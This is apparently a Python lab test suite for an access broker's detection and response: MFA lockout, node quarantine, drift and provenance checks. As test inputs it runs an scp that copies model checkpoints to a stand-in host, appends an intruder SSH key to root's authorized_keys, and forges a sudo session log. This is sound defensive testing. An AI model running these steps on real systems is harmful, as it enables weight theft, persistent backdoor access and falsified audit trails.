"""Detect and respond in the lab: the daemon's detector, responder and node quarantine,
against real sudo, PAM, sshd, sudo_logsrvd and the broker's SQLite store.

The lab policy applies the built-in rules (docs/detection.md); ivan is the lab's
incident-response member (role incident-root).
"""

from __future__ import annotations

import contextlib
import io
import json
import sqlite3
import subprocess
import tarfile
import time
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import run_broker
from tests.lab.conftest import Codes, cli, config_of, ssh_argv

pytestmark = pytest.mark.lab

ROOT_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDetectLabIntruderKeyForDriftTest0000000 intruder@elsewhere"


def node(lab: dict[str, Any], name: str) -> dict[str, Any]:
    return next(n for n in lab["nodes"] if n["name"] == name)


def db(lab: dict[str, Any]) -> sqlite3.Connection:
    path = Path(lab["broker"]["state_dir"]) / "broker.db"
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True)


def ssh(lab: dict[str, Any], user: str, on: str, command: str, *, tty: bool = False) -> list[str]:
    argv = ssh_argv(lab, user, node(lab, on)["address"], command)
    if tty:
        argv.insert(1, "-tt")
    return argv


def until(check: Callable[[], Any], timeout: float, step: float = 0.25) -> Any:
    """CHECK's first truthy answer within TIMEOUT seconds (else its last answer)."""
    deadline = time.monotonic() + timeout
    while True:
        answer = check()
        if answer or time.monotonic() > deadline:
            return answer
        time.sleep(step)


def alerts(lab: dict[str, Any], *args: str) -> list[dict[str, Any]]:
    done = cli(lab, "alerts", "list", "--json", *args)
    assert done.returncode == 0, done.stderr
    found: list[dict[str, Any]] = json.loads(done.stdout)
    return found


def moment(text: str) -> float:
    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


@pytest.fixture(scope="module")
def ready(lab: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Synced; alice (gpu-admins), frank (approver), ivan (incident response), heidi enrolled."""
    assert run_broker("sync", "--full", config=config_of(lab)).returncode == 0
    codes = Codes()
    for user in ("alice", "frank", "ivan", "heidi"):
        codes.enroll(lab, user)
    for user in ("alice", "ivan"):
        assert cli(lab, "revoke", "--user", user, "--reason", "clean slate").returncode == 0
    release_all({"lab": lab, "codes": codes})
    yield {"lab": lab, "codes": codes}
    release_all({"lab": lab, "codes": codes})
    for user in ("alice", "ivan"):
        cli(lab, "revoke", "--user", user, "--reason", "end of the detection tests")
    cli(lab, "mfa", "reset", "heidi", "--yes")


def release_all(ready: dict[str, Any]) -> None:
    """Release whatever an earlier (failed) run left quarantined, as incident response."""
    lab, codes = ready["lab"], ready["codes"]
    held = json.loads(cli(lab, "node", "quarantined", "--json").stdout)
    if held:
        nodes = ",".join(q["node"] for q in held)
        done = cli(lab, "node", "release", nodes, user="ivan", stdin=codes.code("ivan"))
        assert done.returncode == 0, done.stderr


def elevate(ready: dict[str, Any], user: str, nodes: str, approver: str | None) -> dict[str, Any]:
    lab, codes = ready["lab"], ready["codes"]
    asked = cli(
        lab, "elevate", nodes, "--for", "30m", "--reason", "INC-9009 detection lab",
        "--json", user=user, stdin=codes.code(user),
    )  # fmt: skip
    assert asked.returncode == 0, asked.stderr
    result = json.loads(asked.stdout)
    if approver is None:
        assert result["grant"] is not None, result
        return dict(result["grant"])
    approved = cli(
        lab, "approve", result["request"]["id"], "--json", user=approver,
        stdin=codes.code(approver),
    )  # fmt: skip
    assert approved.returncode == 0, approved.stderr
    return dict(json.loads(approved.stdout)["grant"])


def test_five_wrong_codes_lock_mfa_and_raise_an_alert(ready: dict[str, Any]) -> None:
    lab, codes = ready["lab"], ready["codes"]
    started = time.time()
    right = codes.code("heidi").strip()
    wrong = f"{(int(right) + 500_000) % 1_000_000:06d}"
    for _ in range(5):
        refused = cli(lab, "mfa", "verify", user="heidi", stdin=wrong + "\n")
        assert refused.returncode == 1
    fifth = time.time()

    def heidis() -> list[dict[str, Any]]:
        found = alerts(lab, "--rule", "mfa-failures", "--since", "5m", "--unacked")
        return [a for a in found if a["user"] == "heidi" and moment(a["created_at"]) > started]

    found = until(heidis, 10)
    assert len(found) == 1, found
    alert = found[0]
    assert alert["severity"] == "high" and "5 failed MFA codes for heidi" in alert["message"]
    assert moment(alert["created_at"]) - fifth < 10
    status = json.loads(cli(lab, "mfa", "status", "heidi", "--json").stdout)
    assert status["locked_until"] is not None
    lock = until(
        lambda: [
            x for x in cli_alert(lab, alert["id"])["actions"]
            if x["kind"] == "lock_mfa" and x["state"] == "done"
        ],
        10,
    )  # fmt: skip
    assert lock, cli_alert(lab, alert["id"])
    # The right code is refused while locked; an operator acknowledges the alert.
    assert cli(lab, "mfa", "verify", user="heidi", stdin=codes.code("heidi")).returncode == 1
    acked = cli(lab, "alerts", "ack", str(alert["id"]), "--note", "heidi's phone was reset")
    assert acked.returncode == 0, acked.stderr
    assert heidis() == []
    assert cli(lab, "alerts", "ack", str(alert["id"])).returncode == 1  # once


def cli_alert(lab: dict[str, Any], alert_id: int) -> dict[str, Any]:
    shown = cli(lab, "alerts", "show", str(alert_id), "--json")
    assert shown.returncode == 0, shown.stderr
    return dict(json.loads(shown.stdout))


def test_copying_checkpoints_off_a_node_is_stopped_within_ten_seconds(
    ready: dict[str, Any],
) -> None:
    lab = ready["lab"]
    grant = elevate(ready, "alice", "gpu01", approver="frank")
    shell = subprocess.Popen(
        ssh(lab, "alice", "gpu01", "sudo -i", tty=True),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert shell.stdin is not None
    try:
        time.sleep(2.0)
        shell.stdin.write(b"echo warming up\r")
        shell.stdin.flush()
        time.sleep(1.0)
        assert shell.poll() is None, shell.communicate(timeout=5)
        typed = time.time()
        shell.stdin.write(b"scp -P 1 /data/checkpoints/llama-70b/step-9000.pt backup@127.0.0.1:\r")
        shell.stdin.write(b"sleep 300\r")
        shell.stdin.flush()
        shell.communicate(timeout=20)  # the session is ended for us
        ended = time.time()
    finally:
        if shell.poll() is None:
            shell.kill()
            shell.communicate()
    assert ended - typed < 12
    found = [
        a for a in alerts(lab, "--rule", "exfiltration", "--since", "5m")
        if a["grant_id"] == grant["id"]
    ]  # fmt: skip
    assert len(found) == 1, found
    alert = found[0]
    assert moment(alert["created_at"]) - typed < 10
    assert (alert["user"], alert["node"], alert["grant_id"]) == ("alice", "gpu01", grant["id"])
    assert alert["severity"] == "critical"
    shown = cli_alert(lab, alert["id"])
    assert "scp -P 1 /data/checkpoints/llama-70b/step-9000.pt" in shown["details"]["excerpt"]
    grant_now = json.loads(cli(lab, "grants", "show", grant["id"], "--json").stdout)
    assert grant_now["state"] == "revoked"
    assert f"alert {alert['id']}: exfiltration" in grant_now["end_reason"]
    done = until(
        lambda: (
            {x["kind"]: x["state"] for x in cli_alert(lab, alert["id"])["actions"]}
            == {"revoke_grants": "done", "end_session": "done"}
        ),
        15,
    )
    assert done, cli_alert(lab, alert["id"])
    # The recording shows the alert; sudo no longer works for alice there.
    rid = alert["recording_id"]
    detail = until(lambda: json.loads(cli(lab, "sessions", "show", rid, "--json").stdout), 10)
    assert alert["id"] in detail["alerts"]
    again = subprocess.run(ssh(lab, "alice", "gpu01", "sudo -n true"), capture_output=True)
    assert again.returncode != 0


def test_quarantine_ends_sessions_refuses_elevation_and_lets_incident_response_in(
    ready: dict[str, Any],
) -> None:
    lab, codes = ready["lab"], ready["codes"]
    elevate(ready, "alice", "gpu02", approver="frank")
    marker = f"sleep 4{int(time.time()) % 1000:03d}"
    running = subprocess.Popen(
        ssh(lab, "alice", "gpu02", f"sudo -n {marker}"),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert until(lambda: subprocess.run(["pgrep", "-f", marker]).returncode == 0, 20)

    # Not for just anyone, and never without MFA.
    assert cli(lab, "node", "quarantine", "gpu02", "--reason", "x", user="alice",
               stdin=codes.code("alice")).returncode == 1  # fmt: skip
    denied = cli(lab, "node", "quarantine", "gpu02", "--reason", "INC-9010", user="ivan",
                 stdin="000000\n")  # fmt: skip
    assert denied.returncode == 1 and "code" in denied.stderr
    started = time.monotonic()
    done = cli(
        lab, "node", "quarantine", "gpu02", "--reason", "INC-9010 beaconing to a C2 host",
        "--json", user="ivan", stdin=codes.code("ivan"),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["nodes"] == ["gpu02"] and result["revoked"]
    assert [m["ok"] for m in result["marks"]] == [True]
    running.communicate(timeout=15)
    assert time.monotonic() - started < 15
    assert subprocess.run(["pgrep", "-f", marker]).returncode == 1

    listed = json.loads(cli(lab, "node", "quarantined", "--json").stdout)
    assert [(q["node"], q["marker"], q["by"]) for q in listed] == [("gpu02", "placed", "unix:ivan")]
    # A new elevation there is refused by the policy, before any code is asked for.
    refused = cli(lab, "elevate", "gpu02", "--reason", "INC-9011 more work", user="alice")
    assert refused.returncode == 1 and "quarantined" in refused.stderr, refused.stderr
    # Incident response still gets in, and sudo on the node lets them (the hook checks
    # the marker's group).
    ivan = elevate(ready, "ivan", "gpu02", approver=None)
    works = subprocess.run(
        ssh(lab, "ivan", "gpu02", "sudo -n id -u"), capture_output=True, text=True, timeout=60
    )
    assert works.returncode == 0 and works.stdout.split() == ["0"], works.stderr
    events = run_broker("audit", "tail", "-n", "200", "--action", "node.*", "--json",
                        config=config_of(lab))  # fmt: skip
    actions = [(e["action"], e["target"]) for e in json.loads(events.stdout)]
    assert ("node.quarantine", "gpu02") in actions

    released = cli(lab, "node", "release", "gpu02", user="ivan", stdin=codes.code("ivan"))
    assert released.returncode == 0, released.stderr
    assert json.loads(cli(lab, "node", "quarantined", "--json").stdout) == []
    assert cli(lab, "revoke", ivan["id"], "--reason", "incident closed").returncode == 0


def test_a_key_added_for_root_is_drift_on_the_session_record_and_an_alert(
    ready: dict[str, Any],
) -> None:
    lab = ready["lab"]
    grant = elevate(ready, "ivan", "gpu01", approver=None)

    def baseline() -> bool:
        with contextlib.closing(db(lab)) as conn:
            row = conn.execute(
                "SELECT 1 FROM drift_baselines WHERE grant_id = ? AND node = 'gpu01'",
                (grant["id"],),
            ).fetchone()
        return row is not None

    assert until(baseline, 30), "no baseline was taken after the grant was pushed"
    keys = Path(node(lab, "gpu01")["dir"]) / "root" / ".ssh" / "authorized_keys"
    try:
        added = subprocess.run(
            ssh(lab, "ivan", "gpu01",
                f"sudo -n sh -c 'mkdir -p /root/.ssh && echo {ROOT_KEY} >> /root/.ssh/authorized_keys'"),
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert added.returncode == 0, added.stderr

        def drifted() -> dict[str, Any] | None:
            found = alerts(lab, "--rule", "drift", "--since", "5m")
            return next((a for a in found if a["grant_id"] == grant["id"]), None)

        alert = until(drifted, 40, step=0.5)
        assert alert is not None, "no drift alert"
        assert alert["grant_id"] == grant["id"] and alert["user"] == "ivan"
        assert "/root/.ssh/authorized_keys" in alert["message"]
        detail = json.loads(cli(lab, "sessions", "show", alert["recording_id"], "--json").stdout)
        drift = detail["drift"]
        assert drift is not None and drift["unexpected"] >= 1
        line = next(c for c in drift["changes"] if "/root/.ssh/authorized_keys" in c)
        assert "intruder@elsewhere" in line and ROOT_KEY not in line  # the key, abbreviated
        shown = cli(lab, "sessions", "show", alert["recording_id"])
        assert "authorized_keys" in shown.stdout
    finally:
        keys.unlink(missing_ok=True)
        cli(lab, "revoke", grant["id"], "--reason", "drift test done")


def forged_iolog(mark: str, started: float) -> bytes:
    """A tar of an I/O log naming alice on gpu01 that copies checkpoints off the node."""
    typed = f"scp /data/checkpoints/{mark}.pt x@127.0.0.1:\r".encode()
    shown = b"root@gpu01:~# " + typed + b"\n"
    files = {
        "log.json": json.dumps(
            {
                "timestamp": {"seconds": int(started), "nanoseconds": 0},
                "submituser": "alice", "submithost": "gpu01", "runuser": "root",
                "command": "/usr/bin/bash", "runargv": ["bash"], "runcwd": "/root",
                "submitcwd": "/home/alice", "ttyname": "/dev/pts/9", "runuid": 0,
                "rungid": 0, "columns": 80, "lines": 24, "runenv": ["PATH=/usr/bin:/bin"],
            },
            indent=4,
        ).encode() + b"\n",
        "ttyin": typed,
        "ttyout": shown,
        "timing": f"3 0.100000000 {len(typed)}\n4 0.100000000 {len(shown)}\n".encode(),
    }  # fmt: skip
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def test_a_forged_recording_is_uncorroborated_and_revokes_nobody(ready: dict[str, Any]) -> None:
    """Root on gpu02 sends, through gpu02's own tunnel, a session claiming alice on gpu01
    (where she holds a grant) copying checkpoints: the alert is raised, the recording is
    shown uncorroborated, and alice's grant stays. Her real session is corroborated."""
    lab = ready["lab"]
    grant = elevate(ready, "alice", "gpu01", approver="frank")
    mark = f"forged-{int(time.time())}"
    gpu02 = node(lab, "gpu02")
    conf = (Path(gpu02["dir"]) / "etc" / "broker" / "logsrv" / "tunnel.conf").read_text()
    host, port = next(
        line.split("=", 1)[1].strip() for line in conf.splitlines() if line.startswith("accept")
    ).rsplit(":", 1)
    # Two minutes ahead of the real session below: no hook event of alice's is near it.
    script = (
        'd=$(mktemp -d) && tar -x -C "$d" && hostname gpu01 &&'
        f' /usr/sbin/sudo_sendlog -h {host} -p {port} "$d"; rm -rf "$d"'
    )
    nsenter = ["nsenter", "--target", str(gpu02["pid"]), "--mount", "--uts", "--"]
    subprocess.run(
        [*nsenter, "unshare", "--uts", "sh", "-c", script],
        input=forged_iolog(mark, time.time() + 120), capture_output=True, timeout=60,
    )  # fmt: skip
    real = subprocess.run(
        ssh(lab, "alice", "gpu01", "sudo -n true"), capture_output=True, timeout=60
    )
    assert real.returncode == 0, real.stderr

    def exfiltration() -> list[dict[str, Any]]:
        found = alerts(lab, "--rule", "exfiltration", "--since", "5m")
        return [a for a in found if a["grant_id"] == grant["id"]]

    alert = until(exfiltration, 20)
    assert len(alert) == 1, alert
    rid = alert[0]["recording_id"]
    forged = json.loads(cli(lab, "sessions", "show", rid, "--json").stdout)["session"]
    assert (forged["user"], forged["node"], forged["grant_id"]) == ("alice", "gpu01", grant["id"])
    assert forged["provenance"] == "uncorroborated"
    assert forged["provenance_reason"].startswith("no hook event from gpu01 for alice")
    shown = cli(lab, "sessions", "show", rid)
    assert "UNCORROBORATED: no hook event from gpu01 for alice" in shown.stdout
    acted = until(
        lambda: {
            x["kind"]: (x["state"], x["result"] or "")
            for x in cli_alert(lab, alert[0]["id"])["actions"] if x["state"] != "pending"
        },
        15,
    )  # fmt: skip
    assert set(acted) == {"revoke_grants", "end_session"}, acted
    for state, result in acted.values():
        assert state == "failed" and result.startswith(f"withheld: session {rid} is uncorroborated")
    grant_now = json.loads(cli(lab, "grants", "show", grant["id"], "--json").stdout)
    assert grant_now["state"] == "active"
    # The real `sudo -n true`: corroborated once gpu01's hook events are collected.
    assert cli(lab, "grants", "reap").returncode == 0

    def real_one() -> list[dict[str, Any]]:
        listed = cli(lab, "sessions", "list", "--user", "alice", "--node", "gpu01",
                     "--since", "5m", "--json")  # fmt: skip
        return [s for s in json.loads(listed.stdout) if s["argv"] == ["true"]]

    mine = until(real_one, 15)
    assert mine and mine[0]["provenance"] == "corroborated", mine
    assert cli(lab, "revoke", grant["id"], "--reason", "end of the forgery test").returncode == 0
